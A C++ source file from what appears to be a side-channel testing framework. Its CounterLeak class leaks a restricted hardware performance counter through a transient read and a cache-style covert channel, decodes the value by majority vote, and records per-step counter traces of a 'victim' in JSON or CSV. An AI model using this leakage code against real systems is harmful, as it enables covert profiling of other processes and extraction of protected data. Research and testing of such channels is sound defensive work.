#include "counterleak.hpp"

#include <algorithm>
#include <map>
#include <sstream>

#include "json.hpp"

#include "errors.hpp"

namespace regleak {

using nlohmann::json;

namespace {

ChannelConfig sized_for(ChannelConfig config, int bytes) {
  if (bytes < 1 || bytes > 4) raise(ErrorCode::InvalidArgument, "bytes must be in 1..4");
  config.symbol_count = bytes;
  config.slot_count = 256;
  return config;
}

const char* programming_name(CounterProgramming p) {
  return p == CounterProgramming::PreExisting ? "pre_existing" : "setup_helper";
}

CounterProgramming programming_from_name(const std::string& s) {
  if (s == "pre_existing") return CounterProgramming::PreExisting;
  if (s == "setup_helper") return CounterProgramming::SetupHelper;
  raise(ErrorCode::InvalidArgument, "unknown counter programming: " + s);
}

}  // namespace

CounterLeak::CounterLeak(Harness& harness, CounterSelector selector, ChannelConfig channel_config,
                         CounterLeakOptions options)
    : harness_(harness),
      selector_(std::move(selector)),
      options_(options),
      channel_(make_channel(harness.backend(), sized_for(channel_config, options.bytes))),
      modulus_(1ULL << (8 * options.bytes)) {
  if (options_.bytes < 1 || options_.bytes > 4)
    raise(ErrorCode::InvalidArgument, "bytes must be in 1..4");
  if (options_.retries < 1) raise(ErrorCode::InvalidArgument, "retries must be positive");
  if (!harness_.backend().counter_restricted(harness_, selector_))
    raise(ErrorCode::EnvironmentNotRestricted,
          "counter " + selector_.event_name + " is architecturally readable; nothing to test");
  if (!channel_.config().calibrated()) channel_.calibrate(1000);
  channel_.flush_all();
}

CounterSample CounterLeak::leak_counter() {
  Backend& backend = harness_.backend();
  uint64_t sample_start = backend.cycles_now();
  uint64_t probes_start = channel_.probe_count();

  std::vector<std::map<unsigned, int>> votes(options_.bytes);
  uint64_t encode_cycles = 0;

  for (int attempt = 0; attempt < options_.retries; ++attempt) {
    uint64_t encode_start = backend.cycles_now();
    harness_.run_transient([&] { backend.transient_counter_read(selector_, channel_); });
    encode_cycles = backend.cycles_now() - encode_start;

    uint64_t value = 0;
    bool clean = true;
    for (int sym = 0; sym < options_.bytes; ++sym) {
      ChannelObservation obs = channel_.decode(sym);
      if (obs.hit_slots.size() == 1) {
        unsigned byte = static_cast<unsigned>(obs.hit_slots[0]);
        votes[sym][byte] += 2;  // clean reads outrank ambiguous ones
        value |= static_cast<uint64_t>(byte) << (8 * sym);
      } else {
        // A multi-hit pass still carries signal: the encoded slot repeats
        // across attempts while stray hits land uniformly, so weak votes
        // let the majority recover it.
        for (int slot : obs.hit_slots) ++votes[sym][static_cast<unsigned>(slot)];
        clean = false;
      }
    }
    if (clean) {
      CounterSample sample;
      sample.value = value;
      sample.bytes = options_.bytes;
      sample.sample_cycles = backend.cycles_now() - sample_start;
      sample.encode_cycles = encode_cycles;
      sample.probe_count = channel_.probe_count() - probes_start;
      return sample;
    }
  }

  // No single attempt decoded every byte; fall back to per-byte majority.
  // Empty votes mean not one probe pass saw a hit, i.e. the counter never
  // reached the channel at all.
  uint64_t value = 0;
  for (int sym = 0; sym < options_.bytes; ++sym) {
    if (votes[sym].empty())
      raise(ErrorCode::NoLeakage,
            "counter " + selector_.event_name + " produced no decodable transient signal");
    auto best = votes[sym].begin();
    for (auto it = votes[sym].begin(); it != votes[sym].end(); ++it)
      if (it->second > best->second) best = it;
    value |= static_cast<uint64_t>(best->first) << (8 * sym);
  }

  CounterSample sample;
  sample.value = value;
  sample.bytes = options_.bytes;
  sample.sample_cycles = backend.cycles_now() - sample_start;
  sample.encode_cycles = encode_cycles;
  sample.probe_count = channel_.probe_count() - probes_start;
  return sample;
}

uint64_t CounterLeak::raw_sample_pair_delta() {
  uint64_t first = leak_counter().value;
  uint64_t second = leak_counter().value;
  return (second - first) & (modulus_ - 1);
}

uint64_t CounterLeak::self_baseline() {
  if (baseline_) return *baseline_;
  std::vector<uint64_t> deltas;
  deltas.reserve(options_.baseline_samples);
  for (int i = 0; i < options_.baseline_samples; ++i) deltas.push_back(raw_sample_pair_delta());
  std::sort(deltas.begin(), deltas.end());
  baseline_ = deltas[deltas.size() / 2];
  return *baseline_;
}

int64_t CounterLeak::leak_delta(const std::function<void()>& action) {
  uint64_t base = self_baseline();
  uint64_t before = leak_counter().value;
  action();
  uint64_t after = leak_counter().value;
  uint64_t raw = (after - before) & (modulus_ - 1);
  return static_cast<int64_t>(raw) - static_cast<int64_t>(base);
}

uint64_t CounterLeak::measure_encode_window(int samples) {
  if (samples < 1) raise(ErrorCode::InvalidArgument, "samples must be positive");
  std::vector<uint64_t> windows;
  windows.reserve(samples);
  for (int i = 0; i < samples; ++i) windows.push_back(leak_counter().encode_cycles);
  std::sort(windows.begin(), windows.end());
  return windows[windows.size() / 2];
}

TraceSeries capture_trace(CounterLeak& leak, const std::string& victim_name, uint64_t repetition,
                          const std::vector<std::function<void()>>& steps) {
  TraceSeries series;
  series.selector = leak.selector();
  series.victim = victim_name;
  series.repetition = repetition;
  series.samples.reserve(steps.size());
  for (size_t i = 0; i < steps.size(); ++i)
    series.samples.push_back({i, leak.leak_delta(steps[i])});
  return series;
}

std::string trace_to_json(const TraceSeries& series) {
  json samples = json::array();
  for (const TraceSample& s : series.samples) samples.push_back({s.sequence, s.delta});
  json root = {{"selector",
                {{"counter_index", series.selector.counter_index},
                 {"event_name", series.selector.event_name},
                 {"programmed_by", programming_name(series.selector.programmed_by)}}},
               {"victim", series.victim},
               {"repetition", series.repetition},
               {"samples", samples}};
  return root.dump(2);
}

TraceSeries trace_from_json(const std::string& text) {
  json root;
  try {
    root = json::parse(text);
  } catch (const json::parse_error& e) {
    raise(ErrorCode::InvalidArgument, std::string("trace JSON parse error: ") + e.what());
  }
  TraceSeries series;
  const json& sel = root.at("selector");
  series.selector.counter_index = sel.at("counter_index").get<uint32_t>();
  series.selector.event_name = sel.at("event_name").get<std::string>();
  series.selector.programmed_by =
      programming_from_name(sel.at("programmed_by").get<std::string>());
  series.victim = root.value("victim", "");
  series.repetition = root.value("repetition", 0ULL);
  for (const json& s : root.at("samples")) {
    if (!s.is_array() || s.size() != 2)
      raise(ErrorCode::InvalidArgument, "trace sample must be [sequence, delta]");
    series.samples.push_back({s[0].get<uint64_t>(), s[1].get<int64_t>()});
  }
  return series;
}

std::string trace_to_csv(const TraceSeries& series) {
  std::ostringstream out;
  out << "sequence,delta\n";
  for (const TraceSample& s : series.samples) out << s.sequence << "," << s.delta << "\n";
  return out.str();
}

std::vector<TraceSample> trace_samples_from_csv(const std::string& text) {
  std::istringstream in(text);
  std::string line;
  if (!std::getline(in, line) || line != "sequence,delta")
    raise(ErrorCode::InvalidArgument, "CSV header must be 'sequence,delta'");
  std::vector<TraceSample> samples;
  while (std::getline(in, line)) {
    if (line.empty()) continue;
    size_t comma = line.find(',');
    if (comma == std::string::npos) raise(ErrorCode::InvalidArgument, "malformed CSV row: " + line);
    try {
      TraceSample s;
      s.sequence = std::stoull(line.substr(0, comma));
      s.delta = std::stoll(line.substr(comma + 1));
      samples.push_back(s);
    } catch (const std::logic_error&) {
      raise(ErrorCode::InvalidArgument, "malformed CSV row: " + line);
    }
  }
  return samples;
}

}  // namespace regleak
